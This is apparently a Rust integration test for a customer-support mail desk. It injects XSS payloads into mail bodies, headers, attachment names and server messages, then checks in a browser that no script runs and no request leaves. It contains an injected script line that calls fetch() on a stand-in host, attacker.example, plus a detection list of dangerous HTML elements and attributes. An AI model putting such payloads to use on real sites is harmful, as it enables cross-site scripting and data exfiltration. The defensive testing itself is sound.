//! Hostile markup in mail, opened in a real browser: no script of it runs, and nothing leaves.
//!
//! Every payload stands in text, HTML, subject, sender's name and attachment's name of real messages that the daemon
//! reads. All hosts but the desk's lead to a trap that notes who comes. The same payloads on a page without
//! protection show that the trap and the mark work.

use std::collections::BTreeMap;
use std::io::{Cursor, Read as _};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use guichet::desk::Evidence;
use guichet::domain::outgoing::AttemptOutcome;
use guichet::domain::{AlertKind, CaseId};
use guichet::ports::{Clock as _, Store as _};
use jiff::SignedDuration;
use jiff::tz::TimeZone;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;

use super::browser::{Browser, Window};
use crate::play::daemon::{Daemon, Seen};
use crate::play::scripted_http::{HttpServer, Reply};
use crate::shop::http::Visitor;
use crate::shop::letters::Letter;
use crate::shop::{MAILBOX, NAME, PASSWORD, Shop};
use crate::support::maildir_shop::MaildirShop;

const PAYLOADS: &str = include_str!("../../fixtures/attacks/payloads.toml");
const HOST: &str = "attacker.example";
/// Sets the mark on the page, and asks the other host. Without blanks, so that it fits into any attribute.
const SCRIPT: &str = "(fetch('http://attacker.example/run'),top.ran=1)";
/// Whether the mark is set, and what of the page could act: handlers, addresses that are not the desk's, elements the desk does not use.
const SUSPECTS: &str = "
    const own = url => { try { return new URL(url, location.href).origin === location.origin } catch { return false } };
    const inert = e => e.localName === 'iframe' && e.hasAttribute('sandbox') && !/scripts|forms|navigation|popups/.test(e.sandbox);
    const found = [];
    for (const e of document.querySelectorAll('*')) {
        if (/^(object|embed|base|applet|frame|frameset|animate|set|use|style|math|foreignobject|portal)$/i.test(e.localName)
            || e.localName === 'iframe' && !inert(e) || e.localName === 'script' && !e.getAttribute('src')) found.push(e.outerHTML);
        for (const a of e.attributes) {
            const led = /^(href|src|srcset|action|formaction|data|poster|background|ping|manifest|xlink:href)$/i.test(a.name);
            const grown = a.name === 'style' && e.localName === 'textarea';
            if (!grown && /^(on.*|style|http-equiv)$/i.test(a.name) || led && !own(a.value)) found.push(e.outerHTML);
        }
    }
    const ran = [window, ...Array.from(frames)].some(w => { try { return 'ran' in w } catch { return false } });
    return { at: location.href, ran, suspects: found.map(html => html.slice(0, 200)) };";

/// What a mail's HTML may keep of its style; the sheet in the head is ours.
const KEPT_STYLES: &str = "/^([a-z-]+:[a-z0-9#%., ()-]+;?)*$/";
/// Opens the frames with HTML of a case page: how many had been asked for before, and how many after.
const OPEN_FRAMES: &str = "
    const frames = [...document.querySelectorAll('.laid-out iframe')];
    const asked = () => performance.getEntriesByType('resource').filter(entry => entry.name.endsWith('/html')).length;
    const before = asked();
    Promise.all(frames.map(frame => new Promise(loaded => {
        frame.addEventListener('load', loaded);
        frame.closest('details').open = true;
        frame.scrollIntoView();
    }))).then(() => done([before, frames.length, asked()]));";

/// Payloads by `class/name`.
fn payloads() -> Vec<(String, String)> {
    let classes: BTreeMap<String, BTreeMap<String, String>> = toml::from_str(PAYLOADS).unwrap();
    let named = |(class, payloads): (String, BTreeMap<String, String>)| {
        payloads.into_iter().map(move |(name, text)| (format!("{class}/{name}"), text)).collect::<Vec<_>>()
    };
    let filled = |(name, text): (String, String)| (name, text.replace("RUN", SCRIPT).replace("HOST", HOST));
    classes.into_iter().flat_map(named).map(filled).collect()
}

/// Takes every connection and notes what it asked.
struct Trap {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Trap {
    async fn set() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let noted = Arc::clone(&heard);
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let at = {
                    let mut noted = noted.lock().unwrap();
                    noted.push("a connection without a word".to_owned());
                    noted.len() - 1
                };
                let noted = Arc::clone(&noted);
                tokio::spawn(async move {
                    let mut bytes = [0; 2048];
                    if let Ok(length @ 1..) = stream.read(&mut bytes).await {
                        let said = String::from_utf8_lossy(&bytes[..length]).into_owned();
                        let line = |start: &str| said.lines().find(|line| line.starts_with(start)).unwrap_or_default();
                        noted.lock().unwrap()[at] =
                            format!("{}{}", line("GET"), line("Host: ").replace("Host: ", " from "));
                        let _ = stream
                            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                            .await;
                    }
                });
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().unwrap().clone()
    }
}

/// A message with the payload wherever a sender can put one.
fn letter(n: usize, payload: &str, html: bool) -> String {
    let word = format!("=?utf-8?b?{}?=", STANDARD.encode(payload));
    let name: String = payload.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let (media_type, text) = if html {
        (
            "text/html",
            format!("<html><body><p>Please refund order 48213, the kettle is broken.</p>{payload}</body></html>"),
        )
    } else {
        ("text/plain", format!("Please refund order 48213, the kettle is broken.\n\n{payload}\n"))
    };
    let from = format!("customer@sender-{n}.example");
    format!(
        "Return-Path: <{from}>\nMessage-ID: <{html}.{from}>\nFrom: {word} <{from}>\nTo: support@shop.example\nSubject: {word}\n\
         MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n\
         --b\nContent-Type: {media_type}; charset=utf-8\nContent-Transfer-Encoding: base64\n\n{}\n\
         --b\nContent-Type: image/svg+xml; name*=utf-8''{name}\nContent-Disposition: attachment; filename*=utf-8''{name}\n\
         Content-Transfer-Encoding: base64\n\n{}\n--b--\n",
        STANDARD.encode(text),
        STANDARD.encode(payload),
    )
}

/// A shop that got all of it; the references of its cases.
fn attacked(payloads: &[(String, String)]) -> (MaildirShop, Daemon, Vec<String>) {
    let limits = "[acknowledge]\nper_domain_per_hour = 9999\nper_mailbox_per_hour = 9999";
    let shop = MaildirShop::new(None, limits);
    // Approved replies stay in the outbox, where they are looked at.
    let text = std::fs::read_to_string(&shop.config).unwrap().replace("undo_window = \"0s\"", "undo_window = \"1h\"");
    std::fs::write(&shop.config, text).unwrap();
    let mut daemon = Daemon::start(&shop.config, None);
    assert!(daemon.wait_ready(), "{}", daemon.log.join("\n"));
    for (n, (_, payload)) in payloads.iter().enumerate() {
        for html in [false, true] {
            shop.deliver_bytes(&format!("{n}.{html}"), letter(n, payload, html).as_bytes());
        }
    }
    // One case a payload: what a sender writes again about an order joins.
    for words in ["new case", "message joined", "assessed"] {
        assert!(matches!(daemon.wait_lines(payloads.len(), &[words]), Seen::Line(_)), "{}", daemon.log.join("\n"));
    }
    let cases = daemon.log.iter().filter(|line| line.contains("new case")).filter_map(|line| {
        let reference = line.split_once("case=")?.1;
        Some(reference.split(' ').next()?.to_owned())
    });
    let cases = cases.collect();
    (shop, daemon, cases)
}

/// How many payloads run a script, and how many ask another host, on a page that shows them as they are.
async fn act_unprotected(browser: &mut Browser, trap: &Trap, payloads: &[(String, String)]) -> (usize, usize) {
    let server = HttpServer::start().await;
    let mut ran = 0;
    for (n, (_, payload)) in payloads.iter().enumerate() {
        // A host for each, so that it is known who asked.
        let payload = payload.replace(HOST, &format!("of-{n}.{HOST}"));
        let page = format!("<!doctype html><meta charset=utf-8><input name=csrf value=abc><p>{payload}");
        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
        server.always(Reply::Raw(format!("{head}Content-Length: {}\r\n\r\n{page}", page.len()).into_bytes()));
        browser.open(&server.url("/")).await;
        ran += usize::from(browser.run("return window.ran === 1").await == true);
    }
    browser.open(&format!("http://{HOST}/the-end")).await;
    let heard = trap.heard();
    let asked = |n: &usize| heard.iter().any(|line| line.ends_with(&format!(" from of-{n}.{HOST}")));
    (ran, (0..payloads.len()).filter(asked).count())
}

/// Opens a page and looks for anything of the payload that is more than text.
async fn look(browser: &mut Browser, address: &str) {
    look_for(browser, address, SUSPECTS).await;
}

async fn look_for(browser: &mut Browser, address: &str, suspects: &str) {
    browser.open(address).await;
    let found = browser.run(suspects).await;
    assert_eq!(found["at"], address, "the page led elsewhere");
    assert_eq!(found["ran"], false, "{address}: a script ran");
    assert_eq!(found["suspects"], serde_json::json!([]), "{address}");
    let complaints = browser.complaints().await;
    assert!(complaints.is_empty(), "{address}: the browser stopped something: {complaints:?}");
}

/// Opens the HTML on each case page as a reviewer does; returns how many frames there were.
async fn open_frames(browser: &mut Browser, pages: &[String]) -> u64 {
    let mut opened = 0;
    for page in pages {
        browser.open(page).await;
        let found = browser.run_until_done(OPEN_FRAMES).await;
        assert_eq!(found[0], 0, "{page}: asked for before it was opened");
        assert_eq!((&found[1], found[1] == 0), (&found[2], false), "{page}");
        opened += found[1].as_u64().unwrap();
        let found = browser.run(SUSPECTS).await;
        assert_eq!((&found["ran"], &found["at"]), (&false.into(), &page.as_str().into()), "{page}");
        let complaints = browser.complaints().await;
        assert!(complaints.is_empty(), "{page}: the browser stopped something: {complaints:?}");
    }
    opened
}

/// Opens what stands in the frames without frame and policy: what was made harmless is so by itself.
async fn look_unprotected(browser: &mut Browser, sheets: &[String]) {
    let suspects = SUSPECTS.replace("style|math", "math").replace(
        "const grown = a.name === 'style' &&",
        &format!("const grown = a.name === 'style' && {KEPT_STYLES}.test(a.value) ||"),
    );
    assert_eq!(suspects.matches(KEPT_STYLES).count(), 1);
    let server = HttpServer::start().await;
    for sheet in sheets {
        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close\r\n";
        server.always(Reply::Raw(format!("{head}Content-Length: {}\r\n\r\n{sheet}", sheet.len()).into_bytes()));
        look_for(browser, &server.url("/"), &suspects).await;
    }
}

/// What the links and frames of a case page lead to: attached files, and pages of HTML.
async fn follow(visitor: &mut Visitor, page: &str) -> (usize, Vec<String>) {
    let body = visitor.get(page).await.body.replace("&#x2f;", "/");
    let of = |start: &str| -> Vec<String> {
        body.split(start).skip(1).filter_map(|rest| Some(rest.split_once('"')?.0.to_owned())).collect()
    };
    let files = of("class=\"file\" href=\"");
    for file in &files {
        let answer = visitor.get(file).await;
        let kind = (answer.status, answer.header("content-type"), answer.header("content-security-policy"));
        assert_eq!(kind, (200, "application/octet-stream", "default-src 'none'; sandbox"), "{page}");
        assert!(answer.header("content-disposition").starts_with("attachment; filename=\""), "{page}");
    }
    let mut sheets = Vec::new();
    for path in of("<iframe src=\"") {
        let answer = visitor.get(&path).await;
        assert!(answer.status == 200 && answer.body.contains("the kettle is broken"), "{page}: {}", answer.body);
        sheets.push(answer.body);
    }
    (files.len(), sheets)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_in_a_mail_runs_or_asks_another_host() {
    let payloads = payloads();
    let (shop, mut daemon, cases) = tokio::task::block_in_place(|| attacked(&payloads));
    assert_eq!(cases.len(), payloads.len());
    let mut visitor = Visitor::new(([127, 0, 0, 1], shop.desk).into());
    visitor.sign_in().await;
    let mut approved = 0;
    for case in &cases {
        let page = visitor.get(&format!("/case/{case}")).await;
        approved += usize::from(visitor.act(&page, &format!("/case/{case}/approve"), &[]).await.status < 400);
    }

    let trap = Trap::set().await;
    let mut browser = Browser::start(&Window::desktop().everything_else_at(trap.port)).await;
    let desk = format!("http://127.0.0.1:{}", shop.desk);
    browser.open(&format!("{desk}/")).await;
    browser.fill("input[name=name]", NAME).await;
    browser.fill("input[name=password]", PASSWORD).await;
    browser.click("button.primary").await;
    let mut pages: Vec<String> = ["queue", "cases", "outbox", "aside"].map(|page| format!("{desk}/{page}")).into();
    pages.extend(cases.iter().map(|case| format!("{desk}/case/{case}")));
    for page in &pages {
        look(&mut browser, page).await;
    }
    let case_pages = pages.split_off(4);
    let frames = open_frames(&mut browser, &case_pages).await;
    let (mut files, mut sheets) = (0, Vec::new());
    for case in &cases {
        let (linked, found) = follow(&mut visitor, &format!("/case/{case}")).await;
        files += linked;
        sheets.extend(found);
    }
    look_unprotected(&mut browser, &sheets).await;
    // What was asked before this has come before it.
    browser.open(&format!("http://{HOST}/the-end")).await;
    let first = trap.heard().remove(0);
    assert_eq!(first, format!("GET /the-end HTTP/1.1 from {HOST}"), "nothing else left");

    let (ran, asked) = act_unprotected(&mut browser, &trap, &payloads).await;
    browser.end().await;
    println!(
        "{} payloads in {} mails, {approved} replies approved, {} pages and {frames} frames with HTML opened, {files} files \
         saved: 0 scripts run, 0 requests leave; the HTML of the frames, without frame and policy: 0 and 0; \
         on a page without protection {ran} run and {asked} ask another host",
        payloads.len(),
        2 * payloads.len(),
        pages.len() + case_pages.len(),
    );
    assert_eq!((frames, sheets.len()), (payloads.len() as u64, payloads.len()), "each HTML mail has its frame");

    assert!(ran > payloads.len() / 4 && asked > payloads.len() / 2, "the trap must be able to catch: {ran}, {asked}");
    assert!(daemon.stop().success());
}

/// What machines say, and servers of messages that were given up. The references of the cases that the same payloads opened.
async fn told(shop: &Shop, payloads: &[(String, String)]) -> Vec<CaseId> {
    let mut cases = Vec::new();
    for (n, (_, payload)) in payloads.iter().enumerate() {
        shop.receive_machine(&format!("robot@a{n}.example"), payload, payload).await;
        shop.receive_alert(&format!("bank@b{n}.example"), payload, AlertKind::Dispute, payload).await;
        shop.give_up(&format!("7/{n} {payload}"), payload).await;
        let mut letter = Letter::new(&format!("kim@c{n}.example"), payload, payload);
        letter.name = Some(payload.clone());
        cases.push(shop.receive(&letter).await);
    }
    cases
}

/// Each acknowledgement meets a server that answers so; returns how many did.
async fn answered(shop: &Shop, payloads: &[(String, String)]) -> usize {
    let (lease, now) = (shop.store.lease(MAILBOX).await.unwrap(), shop.clock.now());
    let due = shop.store.claim_due(&lease, now, usize::MAX).await.unwrap();
    for (n, (mail, (_, payload))) in due.iter().zip(payloads).enumerate() {
        let why = payload.clone();
        let outcome = match n % 4 {
            0 => AttemptOutcome::Hold { why },
            1 => AttemptOutcome::Refused { why },
            2 => AttemptOutcome::Retry { not_before: now + SignedDuration::from_hours(1), why },
            _ => AttemptOutcome::Doubt { why },
        };
        shop.store.mark_committing(&lease, &mail.id).await.unwrap();
        shop.store.finish(&lease, &mail.id, outcome, now).await.unwrap();
    }
    due.len()
}

/// The summary of a case as whoever unpacks the bundle finds it.
async fn summary(shop: &Shop, case: &CaseId) -> String {
    let evidence = Evidence::collect(shop.port(), case, shop.clock.now()).await.unwrap();
    let bundle = evidence.zip(&TimeZone::UTC).unwrap();
    let mut page = String::new();
    zip::ZipArchive::new(Cursor::new(bundle))
        .unwrap()
        .by_name("summary.html")
        .unwrap()
        .read_to_string(&mut page)
        .unwrap();
    page
}

/// Opens the summaries from the disk, as they are and without their policy.
async fn look_at_summaries(browser: &mut Browser, shop: &Shop, cases: &[CaseId]) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("summary.html");
    let address = format!("file://{}", path.display());
    // Its own sheet and its own policy, one of each.
    let suspects = SUSPECTS.replace("|style|math", "|math").replace("|http-equiv)", ")");
    assert_eq!(SUSPECTS.len() - suspects.len(), "|style".len() + "|http-equiv".len());
    let own = "return document.querySelectorAll('style, [http-equiv]').length";
    for case in cases {
        let page = summary(shop, case).await;
        let (start, policy) = page.split_once("<meta http-equiv=").expect("a policy");
        let bare = format!("{start}{}", policy.split_once('>').unwrap().1);
        for (text, parts) in [(page.as_str(), 2), (&bare, 1)] {
            std::fs::write(&path, text).unwrap();
            look_for(browser, &address, &suspects).await;
            assert_eq!(browser.run(own).await, parts, "{case}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_that_machines_and_servers_say_runs_or_asks_another_host() {
    let payloads = payloads();
    let shop = crate::shop::open().await;
    let cases = told(&shop, &payloads).await;
    assert_eq!(answered(&shop, &payloads).await, payloads.len());

    let trap = Trap::set().await;
    let mut browser = Browser::start(&Window::desktop().everything_else_at(trap.port)).await;
    super::sign_in(&mut browser, &shop).await;
    let pages = ["queue", "outbox", "aside", "aside?page=1"].map(|page| format!("http://{}/{page}", shop.address));
    for page in &pages {
        look(&mut browser, page).await;
        let text = browser.run("return document.body.textContent").await.as_str().unwrap().to_owned();
        let shown =
            payloads.iter().filter(|(_, payload)| text.contains(payload.lines().next().unwrap().trim())).count();
        assert!(shown > payloads.len() / 4, "{page} shows {shown} of what was said");
    }
    let sentences: Vec<&str> = payloads.iter().map(|(_, payload)| payload.as_str()).collect();
    *shop.pulse.ill.lock().unwrap() = Some(sentences.join(" "));
    look(&mut browser, &pages[0]).await;
    look_at_summaries(&mut browser, &shop, &cases).await;
    browser.open(&format!("http://{HOST}/the-end")).await;
    let first = trap.heard().remove(0);
    assert_eq!(first, format!("GET /the-end HTTP/1.1 from {HOST}"), "nothing else left");
    browser.end().await;
    println!(
        "{} payloads said by machines, mail servers, alarms and lists of what was given up, {} pages and {} summaries opened, \
         these without their policy as well: 0 scripts run, 0 requests leave",
        payloads.len(),
        pages.len(),
        cases.len(),
    );
}
